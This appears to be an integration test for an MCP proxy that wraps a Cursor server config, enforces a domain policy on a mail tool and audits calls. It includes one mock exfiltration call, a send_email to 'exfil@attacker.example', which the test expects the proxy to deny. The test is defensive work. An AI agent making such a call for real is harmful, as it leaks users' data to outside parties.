// A wrapped remote entry really works: a Cursor config whose server is a real Streamable HTTP MCP
// server (started here) is wrapped on the command line; the rewritten entry, started as a client
// starts it, reaches the server through the proxy's stdio face, lists its tools, makes a call
// (audited) and has a send to a foreign domain denied by the policy written before wrapping; undo gives the file back byte for byte.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readNamedConfigFile } from '../../src/scan/configs/read.js';
// @ts-expect-error: a plain .mjs fixture without types
import { startMailHttpServer } from '../fixtures/servers/proxy/email-http.mjs';
import { ensureBuilt, node, runDist } from '../proxy/helpers.js';

let upstream: { url: string; close: () => Promise<void> };
beforeAll(async () => {
  ensureBuilt();
  upstream = await startMailHttpServer(0);
}, 300_000);
afterAll(async () => {
  await upstream?.close();
});

interface CallResult {
  content: { text?: string }[];
  _meta?: { portcullis?: { decision?: string } };
}

describe('a wrapped remote entry, started as a client starts it', () => {
  it('reaches the Streamable HTTP server through the proxy, lists tools and calls one', {
    timeout: 120_000,
  }, async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pc-wrap-remote-'));
    mkdirSync(join(dir, '.cursor'));
    const file = join(dir, '.cursor', 'mcp.json');
    const original = `{\n  // the team's mail server\n  "mcpServers": {\n    "mail": { "url": "${upstream.url}" }\n  }\n}\n`;
    writeFileSync(file, original);
    const policyDir = join(dir, 'policies');
    const auditDir = join(dir, 'audit');
    // A policy written before wrapping is kept, and it is the one the proxy enforces.
    mkdirSync(policyDir);
    writeFileSync(
      join(policyDir, 'cursor-mail.yaml'),
      'version: 1\nservers:\n  mail:\n    tools:\n      send_email:\n        args:\n          to: { email: { domains: [example.com] } }\n',
    );
    const wrap = spawnSync(
      node,
      [runDist, 'wrap', file, '--policy-dir', policyDir, '--audit-dir', auditDir],
      { encoding: 'utf8' },
    );
    expect(wrap.status, wrap.stderr).toBe(0);
    expect(wrap.stdout).toContain('mail: wrapped');
    expect(readFileSync(file, 'utf8')).toContain("// the team's mail server");

    const [entry] = readNamedConfigFile(file, file).servers;
    if (!entry?.command) throw new Error('the remote entry was not rewritten into a command');
    expect(entry.transport).toBe('stdio');
    expect(entry.url).toBeUndefined();
    expect(entry.args?.slice(-2)).toEqual(['--upstream', upstream.url]);
    const transport = new StdioClientTransport({
      command: entry.command,
      args: entry.args ?? [],
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir },
      stderr: 'pipe',
      cwd: dir,
    });
    const client = new Client({ name: 'wrapped-remote-client', version: '1.0.0' });
    await client.connect(transport, { timeout: 60_000 });
    try {
      expect(client.getServerVersion()?.name).toBe('mail');
      const tools = (await client.listTools()).tools.map((t) => t.name);
      expect(tools).toEqual(expect.arrayContaining(['echo', 'send_email']));
      const echo = (await client.callTool({
        name: 'echo',
        arguments: { text: 'over http, through the wrap' },
      })) as CallResult;
      expect(echo.content.map((c) => c.text).join('')).toContain('over http, through the wrap');
      expect(echo._meta?.portcullis?.decision).toBe('allow');
      const exfil = (await client.callTool({
        name: 'send_email',
        arguments: { to: 'exfil@attacker.example', subject: 'notes', body: 'x' },
      })) as CallResult;
      expect(exfil._meta?.portcullis?.decision).toBe('deny');
    } finally {
      await client.close();
    }
    const records = readFileSync(join(auditDir, 'cursor-mail.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { server?: string; tool?: string; decision?: string });
    expect(records.some((r) => r.server === 'mail' && r.tool === 'echo')).toBe(true);
    expect(records.some((r) => r.tool === 'send_email' && r.decision === 'deny')).toBe(true);

    const undo = spawnSync(node, [runDist, 'wrap', '--undo', file], { encoding: 'utf8' });
    expect(undo.status, undo.stderr).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe(original);
  });
});
